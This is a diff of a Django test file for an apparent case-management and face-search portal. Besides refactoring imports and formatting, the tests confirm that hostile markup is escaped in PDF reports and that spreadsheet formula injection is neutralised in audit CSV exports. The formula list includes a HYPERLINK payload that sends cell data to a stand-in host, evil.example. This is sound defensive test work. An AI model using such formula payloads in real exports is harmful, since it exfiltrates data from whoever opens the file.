@@ -13,11 +13,13 @@ from django.urls import reverse
 from pypdf import PdfReader
 
 from portal.models import AuditEntry, Case, CaseReport
-from portal.reports import case_report_render, case_report_request
+from portal.reports.render import case_report_render
+from portal.services import case_report_request
 from search import pipeline
+from search.enrolment import EnrolmentItem, gallery_enrol_batch, gallery_get_or_create
+from search.leads import candidate_mark, lead_decide
 from search.models import Gallery
-from search.reviews import candidate_mark, lead_decide
-from search.services import EnrolmentItem, gallery_enrol_batch, gallery_get_or_create, probe_submit
+from search.services import probe_submit
 from tests.base import GALLERY_PROVENANCE, AgencyFixtureMixin, faces_dir, photo_bytes, sign_in
 
 # A file the worker can read, that a report must never embed.
@@ -47,13 +49,24 @@ class ReportMarkupTests(AgencyFixtureMixin, TestCase):
         hostile = " | ".join(MARKUP.values())
         Case.objects.filter(pk=cls.case.pk).update(title=f"Robbery {MARKUP['forged']} {MARKUP['control']}")
         cls.case.refresh_from_db()
-        gallery, _ = gallery_get_or_create(owner=cls.north, name=f"Bookings {MARKUP['image']}",
-                                           legal_basis=f"Act {MARKUP['forged']}", **GALLERY_PROVENANCE)
-        gallery_enrol_batch(gallery=gallery, gallery_created=True, items=[
-            EnrolmentItem(path=str(faces_dir() / "img1.jpg"), display_name=f"Alex {MARKUP['broken']}")])
-        cls.job = probe_submit(case=cls.case, uploaded_by=cls.alice, data=photo_bytes("img2.jpg"),
-                               original_name=f"still {MARKUP['image']}.jpg",
-                               justification=f"CCTV of the robbery {hostile}")
+        gallery, _ = gallery_get_or_create(
+            owner=cls.north,
+            name=f"Bookings {MARKUP['image']}",
+            legal_basis=f"Act {MARKUP['forged']}",
+            **GALLERY_PROVENANCE,
+        )
+        gallery_enrol_batch(
+            gallery=gallery,
+            gallery_created=True,
+            items=[EnrolmentItem(path=str(faces_dir() / "img1.jpg"), display_name=f"Alex {MARKUP['broken']}")],
+        )
+        cls.job = probe_submit(
+            case=cls.case,
+            uploaded_by=cls.alice,
+            data=photo_bytes("img2.jpg"),
+            original_name=f"still {MARKUP['image']}.jpg",
+            justification=f"CCTV of the robbery {hostile}",
+        )
         pipeline.search_job_run(job_id=cls.job.id)
         candidate = cls.job.candidates.get(rank=1)
         candidate_mark(user=cls.alice, candidate=candidate, decision="possible_lead", note=MARKUP["image"])
@@ -84,8 +97,12 @@ class ReportMarkupTests(AgencyFixtureMixin, TestCase):
             self.assertNotIn(secret.read()[:200], pdf.read())
 
     def test_a_failed_report_shows_a_clean_message_and_can_be_made_again(self):
-        with (mock.patch("portal.reports._render_pdf", side_effect=ValueError("paragraph parse error at <img>")),
-              self.assertLogs("portal.reports", logging.ERROR)):
+        with (
+            mock.patch(
+                "portal.reports.layout.case_report_pdf", side_effect=ValueError("paragraph parse error at <img>")
+            ),
+            self.assertLogs("portal.reports", logging.ERROR),
+        ):
             failed = self.make_report()
         self.assertEqual(failed.status, CaseReport.Status.FAILED)
         self.assertNotIn("parse error", failed.error)
@@ -104,8 +121,7 @@ class AuditCsvTests(AgencyFixtureMixin, TestCase):
         cls.create_agencies()
 
     def test_cells_that_a_spreadsheet_would_run_are_neutralised(self):
-        formulas = ['=HYPERLINK("http://evil.example?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)",
-                    "\tTAB", "\rCR"]
+        formulas = ['=HYPERLINK("http://evil.example?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
         from portal.audit import audit_record
 
         for formula in formulas:
@@ -113,8 +129,11 @@ class AuditCsvTests(AgencyFixtureMixin, TestCase):
         Case.objects.filter(pk=self.case.pk).update(number="=1+2")
         sign_in(self.client, self.bob)
         response = self.client.get(reverse("portal:audit-export"))
-        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content if response.streaming
-                                                     else [response.content]).decode())))
+        rows = list(
+            csv.reader(
+                io.StringIO(b"".join(response.streaming_content if response.streaming else [response.content]).decode())
+            )
+        )
         details = [row[7] for row in rows[1:]]
         for formula in formulas:
             self.assertIn("'" + formula, details)
